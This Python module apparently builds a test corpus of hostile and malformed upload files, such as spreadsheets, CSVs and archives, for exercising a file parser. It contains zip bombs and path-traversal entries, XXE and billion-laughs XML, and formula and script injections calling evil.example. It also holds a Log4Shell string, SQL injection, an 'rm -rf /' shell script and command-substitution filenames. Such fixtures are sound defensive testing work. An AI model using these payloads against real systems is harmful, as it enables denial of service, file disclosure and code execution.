"""A collection of files that mean harm, or look as if they did: bombs, XML tricks, injections, lying sizes, odd names.

Each is made in memory when it is asked for.
"""

import stat
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from typing import Any

import msgspec
from factories.files import Entry, csv, ods, ods_row, pack, parts, sheet, sheet_data, xlsx, zip_of

MIB = 1 << 20
HEAD = ("Mitigation", "Status", "Owner")
ROWS = [HEAD, ("M1032", "Implemented", "IAM"), ("M1027", "Partial", "IT")]
GRID = sheet_data(ROWS)
WORKBOOK = parts({"Controls": GRID})
SHEET = "xl/worksheets/sheet1.xml"
BOOK = "xl/workbook.xml"
STRINGS = "xl/sharedStrings.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
WIDE = "utf-16-le"

FORMULAE = (
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\uff1d1+1",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}{% raise %}",
    "{0.__class__}",
    "%s%n${jndi:ldap://evil.example}",
    "]]><!--",
    "\u202etxt.exe",
    "a\u0000b\ud7ff\ufffe",
    "'; DROP TABLE job; --",
)


class File(msgspec.Struct, frozen=True, kw_only=True):
    filename: str
    make: Callable[[], bytes]


def _zip(name: str, **changed: Any) -> Callable[[], bytes]:
    """The honest workbook with one entry more, which lies."""
    honest = [Entry(name=each.encode(), data=data) for each, data in WORKBOOK.items()]
    return lambda: zip_of([*honest, Entry(name=name.encode("latin-1"), **changed)])


def _part(part: str, content: bytes) -> Callable[[], bytes]:
    return lambda: pack(WORKBOOK | {part: content})


def _sheet(content: str) -> Callable[[], bytes]:
    return lambda: sheet(content)


def _cells(*values: str) -> list[tuple[str, ...]]:
    return [HEAD, *((each, "Implemented", each) for each in values), ("M1032", "Yes", "x")]


def _number_format(code: str) -> str:
    return f'<styleSheet><numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts></styleSheet>'


def _doctype(inside: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE x [{inside}]><worksheet>&a;</worksheet>'.encode()


def _archives() -> Iterator[tuple[str, File]]:
    bomb = zlib.compressobj(9, wbits=-15)
    flat = bomb.compress(bytes(80 * MIB)) + bomb.flush()
    tricks: Mapping[str, Callable[[], bytes]] = {
        "twice-the-sheet": _zip(SHEET),
        "the-sheet-in-capitals": _zip(SHEET.upper()),
        "overlap": _zip("xl/media/a.png", at=0),
        "climbing": _zip("../../etc/passwd"),
        "climbing-inside": _zip("xl/../../a"),
        "absolute": _zip("/etc/passwd"),
        "backslashes": _zip("xl\\worksheets\\sheet2.xml"),
        "drive-letter": _zip("C:/a.xml"),
        "nul-in-a-name": _zip("xl/a.xml\0.png"),
        "escape-in-a-name": _zip("xl/a\x1b[2J.xml"),
        "no-name": _zip(""),
        "long-name": _zip("xl/" + "a" * 60_000),
        "link": _zip("xl/link.xml", data=b"/etc/passwd", mode=stat.S_IFLNK | 0o777),
        "pipe": _zip("xl/pipe", mode=stat.S_IFIFO),
        "bzip2": _zip("xl/a.xml", method=zipfile.ZIP_BZIP2),
        "lzma": _zip("xl/a.xml", method=zipfile.ZIP_LZMA),
        "no-such-method": _zip("xl/a.xml", method=99),
        "encrypted-entry": _zip("xl/a.xml", flags=0x1),
        "claims-65-mb": _zip("xl/media/a.bin", size=65 * MIB),
        "claims-4-gb": _zip("xl/media/a.bin", size=0xFFFFFFFE),
        "points-nowhere": _zip("xl/media/a.bin", at=1 << 30),
        "claims-one-byte": lambda: zip_of(
            Entry(name=name.encode(), data=data, size=1 if name == SHEET else None) for name, data in WORKBOOK.items()
        ),
        "five-thousand-parts": lambda: pack(WORKBOOK | {f"xl/media/{each}.bin": b"" for each in range(5_000)}),
        "80-mb-of-nothing": lambda: pack(WORKBOOK | {SHEET: bytes(80 * MIB)}),
        "a-bomb-in-a-bomb": lambda: pack({"xl/workbook.xml": flat}),
        "cut-short": lambda: pack(WORKBOOK)[:-40],
        "one-byte-changed": lambda: (whole := pack(WORKBOOK))[:300] + bytes([whole[300] ^ 0xFF]) + whole[301:],
        "something-before": lambda: b"MZ" + bytes(510) + pack(WORKBOOK),
        "directory-alone": lambda: b"PK\x05\x06" + bytes(18),
        "macros": lambda: pack(WORKBOOK | {"xl/vbaProject.bin": b"x"}),
        "zip-of-zips": lambda: pack({f"{each}.zip": pack(WORKBOOK) for each in range(20)}),
    }
    for name, make in tricks.items():
        yield name, File(filename="controls.xlsx", make=make)


def _markup() -> Iterator[tuple[str, File]]:
    laughs = "".join(f'<!ENTITY {chr(98 + each)} "{"&" + chr(97 + each) + ";"}{"&a;" * 9}">' for each in range(9))
    tricks: Mapping[str, Callable[[], bytes]] = {
        "laughs": _part(SHEET, _doctype('<!ENTITY a "lol">' + laughs)),
        "external-entity": _part(SHEET, _doctype('<!ENTITY a SYSTEM "file:///etc/passwd">')),
        "entity-by-network": _part(STRINGS, _doctype('<!ENTITY a SYSTEM "http://127.0.0.1:9/">')),
        "doctype-in-the-workbook": _part(BOOK, b'<!DOCTYPE workbook SYSTEM "http://evil.example/x.dtd"><workbook/>'),
        "doctype-in-utf-16": _part(SHEET, '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16")),
        "undeclared-entity": _part(SHEET, b"<worksheet>&nothing;</worksheet>"),
        "quadratic": _part(SHEET, _doctype(f'<!ENTITY a "{"x" * 100_000}">')),
        "100000-deep": _sheet("<a>" * 100_000 + "</a>" * 100_000),
        "100000-attributes": _sheet("<sheetData " + " ".join(f'a{each}=""' for each in range(100_000)) + "/>"),
        "a-token-without-end": _sheet(f"<sheetData a='{'x' * (8 * MIB)}'/>"),
        "many-long-tokens": _sheet(f"<a b='{'c' * 900_000}'/>" * 60),
    }
    for name, make in tricks.items():
        yield name, File(filename="controls.xlsx", make=make)


def _grids() -> Iterator[tuple[str, File]]:
    tricks: Mapping[str, Callable[[], bytes]] = {
        "a-million-rows": _sheet("<sheetData>" + "<row/>" * 1_000_000 + "</sheetData>"),
        "a-million-cells": _sheet("<sheetData><row>" + "<c/>" * 1_000_000 + "</row></sheetData>"),
        "row-two-billion": _sheet('<sheetData><row r="2147483647"><c r="A2147483647"><v>1</v></c></row></sheetData>'),
        "column-zzzzzz": _sheet('<sheetData><row r="1"><c r="ZZZZZZ1"><v>1</v></c></row></sheetData>'),
        "minus-row": _sheet('<sheetData><row r="-5"><c r="A-5"><v>1</v></c></row></sheetData>'),
        "dimension-lies-small": _sheet('<dimension ref="A1"/>' + GRID),
        "dimension-lies-large": _sheet('<dimension ref="A1:XFD1048576"/>' + GRID),
        "a-million-merges": _sheet(
            GRID + "<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 1_000_000 + "</mergeCells>"
        ),
        "one-merge-of-all": _sheet(GRID + '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "string-minus-one": _sheet('<sheetData><row r="1"><c r="A1" t="s"><v>-1</v></c></row></sheetData>'),
        "string-beyond": _sheet('<sheetData><row r="1"><c r="A1" t="s"><v>99999</v></c></row></sheetData>'),
        "number-of-5000-digits": _sheet(f'<sheetData><row r="1"><c r="A1"><v>{"9" * 5_000}</v></c></row></sheetData>'),
        "not-a-number": _sheet('<sheetData><row><c r="A1"><v>NaN</v></c><c r="B1"><v>1e999</v></c></row></sheetData>'),
        "date-beyond-time": _sheet('<sheetData><row r="1"><c r="A1" s="2"><v>99999999999</v></c></row></sheetData>'),
        "half-a-million-strings": lambda: pack(parts({"Controls": GRID}, strings="<si><t>a</t></si>" * 500_000)),
        "number-format-of-a-mb": lambda: pack(
            parts({"Controls": GRID}, styles=_number_format("0" * MIB))
        ),
        "no-sheet-part": lambda: pack({name: data for name, data in WORKBOOK.items() if name != SHEET}),
        "relations-in-a-circle": _part(
            "xl/_rels/workbook.xml.rels",
            b'<Relationships><Relationship Id="rId1" Target="../xl/workbook.xml"/></Relationships>',
        ),
        "relation-to-outside": _part(
            "xl/_rels/workbook.xml.rels",
            b'<Relationships><Relationship Id="rId1" TargetMode="External" Target="http://127.0.0.1:9/a"/></Relationships>',
        ),
        "lone-surrogate": _part(SHEET, b"<worksheet><sheetData>&#xD800;</sheetData></worksheet>"),
        "bytes-of-no-encoding": _part(SHEET, b"<worksheet>\xff\xfe\xfa</worksheet>"),
        "unknown-encoding": _part(SHEET, b'<?xml version="1.0" encoding="x-none"?><worksheet/>'),
        "five-hundred-sheets": lambda: xlsx({f"S{each}": ROWS for each in range(400)}),
        "700-columns": lambda: xlsx([[f"c{each}" for each in range(700)], *ROWS]),
    }  # fmt: skip
    for name, make in tricks.items():
        yield name, File(filename="controls.xlsx", make=make)


def _injections() -> Iterator[tuple[str, File]]:
    for kind, values in (("formulae", FORMULAE), ("scripts", SCRIPTS)):
        clean = tuple(each.replace("\0", "").replace("\ufffe", "") for each in values)
        yield f"{kind}-xlsx", File(filename="controls.xlsx", make=lambda told=clean: xlsx(_cells(*told)))
        yield f"{kind}-csv", File(filename="controls.csv", make=lambda told=values: csv(_cells(*told)))
    yield (
        "formula-without-a-value",
        File(
            filename="controls.xlsx",
            make=_sheet(
                '<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://127.0.0.1:9")</f></c></row></sheetData>'
            ),
        ),
    )
    yield "ods-scripts", File(filename="c.ods", make=lambda: ods("".join(ods_row(*row) for row in _cells("<b>x</b>"))))


def _texts() -> Iterator[tuple[str, File]]:
    made: Mapping[str, Callable[[], bytes]] = {
        "nothing": lambda: b"",
        "nul-bytes": lambda: b"Mitigation,Status\nM10\x0032,Yes\n",
        "an-open-quote": lambda: b'Mitigation,Status\n"' + b"a" * (2 * MIB),
        "only-quotes": lambda: b'"' * MIB,
        "only-commas": lambda: b"," * (10 * MIB),
        "only-lines": lambda: b"\n" * (10 * MIB),
        "a-line-of-20-mb": lambda: b"a" * (20 * MIB),
        "noise": lambda: bytes(range(256)) * 4096,
        "half-an-utf-16": lambda: "Mitigation,Status\nM1032,Yes\n".encode("utf-16")[:-1],
        "lone-surrogates": lambda: "Mitigation,Status\nM1032\ud800,Yes\n".encode("utf-8", "surrogatepass"),
        "controls-and-bidi": "Mitigation,Status\n\u202eM1032\x07\x1b[31m,Yes\n".encode,
        "300000-rows": lambda: b"Mitigation,Status\n" + b"M1032,Yes\n" * 300_000,
        "wide-and-long": lambda: (b"a," * 400 + b"\n") * 13_000,
        "formula-header": lambda: b"=Mitigation,@Status\n=M1032,+Yes\n",
    }
    for name, make in made.items():
        yield name, File(filename="controls.csv", make=make)


def _others() -> Iterator[tuple[str, File]]:
    """Of another kind than they say."""
    kinds: Mapping[str, bytes] = {
        "old.xls": OLE + "Workbook".encode(WIDE),
        "locked.xlsx": OLE + "EncryptedPackage".encode(WIDE),
        "binary.xlsb": pack({"xl/workbook.bin": b"x"}),
        "apple.numbers": pack({"Index/Document.iwa": b""}),
        "word.xlsx": pack({"word/document.xml": b"<a/>"}),
        "picture.xlsx": b"\x89PNG\r\n\x1a\n" + bytes(100),
        "page.xls": b"<html><script>alert(1)</script><table><tr><td>M1032</td></tr></table></html>",
        "leaflet.csv": b"%PDF-1.7\n" + bytes(100),
        "deep.json": b"[" * 100_000 + b"]" * 100_000,
        "bomb.yaml": b"a: &a [x]\nb: &b [*a,*a]\nc: [*b,*b]\n",
        "packed.csv.gz": b"\x1f\x8b\x08\0" + bytes(30),
        "program.exe": b"MZ" + bytes(500),
        "shell.sh": b"#!/bin/sh\nrm -rf /\n",
        "text.ods": pack({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
    }
    for name, data in kinds.items():
        yield name, File(filename=name, make=lambda data=data: data)
    repeated = ods(ods_row("Mitigation", "Status") + ods_row("M1032", "Yes", times=1_000_000_000))
    yield "ods-row-a-billion-times", File(filename="controls.ods", make=lambda: repeated)


def _names() -> Iterator[tuple[str, File]]:
    """Honest files under odd names."""
    honest = csv(ROWS)
    names = (
        "../../etc/passwd.csv",
        "..\\..\\boot.csv",
        "/etc/shadow.csv",
        "a\u202evsc.exe.csv",
        "<script>alert(1)<.csv",
        "con.csv",
        "\u00fc\u00f1\U0001f600.csv",
        " .csv",
        "a" * 400 + ".csv",
        "$(touch x).csv",
        "a'; DROP TABLE job;--.csv",
        "=cmd.csv",
    )
    for name in names:
        yield f"named {name[:24]!a}", File(filename=name, make=lambda: honest)


@cache
def files() -> Mapping[str, File]:
    """The whole collection by name; made when it is asked for, as a hundred megabytes of it are texts."""
    families = (_archives, _markup, _grids, _injections, _texts, _others, _names)
    return {name: file for family in families for name, file in family()}
